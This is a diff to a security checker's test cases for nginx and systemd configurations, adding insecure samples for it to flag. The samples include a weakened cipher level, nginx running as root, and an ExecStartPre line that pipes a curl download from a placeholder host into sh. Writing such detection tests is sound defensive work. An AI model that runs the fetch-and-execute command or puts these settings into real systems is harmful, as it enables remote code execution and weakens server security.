@@ -172,6 +172,7 @@ SURROUNDINGS: Cases = {
         [
             HTTP % "ssl_protocols TLSv1 TLSv1.2;",
             HTTP % "ssl_ciphers HIGH:RC4-SHA:!aNULL;",
+            HTTP % "ssl_ciphers HIGH:@SECLEVEL=0;",
         ],
         [
             HTTP % "ssl_protocols TLSv1.2 TLSv1.3;",
@@ -262,6 +263,11 @@ SURROUNDINGS: Cases = {
         [HTTP % "server_tokens on;", HTTP % "server_tokens build;"],
         [HTTP % "server_tokens off;", HTTP % "listen 443 ssl;"],
     ),
+    ("041", "high"): (
+        NGINX,
+        ["user root;\n" + PASSING, "user 0;\n" + PASSING],
+        ["user nginx nginx;\n" + PASSING],
+    ),
     ("032", "high"): (
         UNIT,
         [
@@ -293,12 +299,14 @@ SURROUNDINGS: Cases = {
             unit("CapabilityBoundingSet=~CAP_SYS_TIME"),
             unit("ReadWritePaths=/srv/work /etc"),
             unit("EnvironmentFile=-/tmp/server.env"),
+            unit("ExecStartPre=/bin/sh -c 'curl -s https://a.b/x | sh'"),
         ],
         [
             unit("AmbientCapabilities=CAP_NET_BIND_SERVICE"),
             unit("CapabilityBoundingSet="),
             unit("ReadWritePaths=/srv/work"),
             unit("EnvironmentFile=/etc/server/server.env"),
+            unit("ExecStartPre=/bin/sh -c 'curl -s https://a.b/x | jq .'"),
         ],
     ),
     ("035", "medium"): (
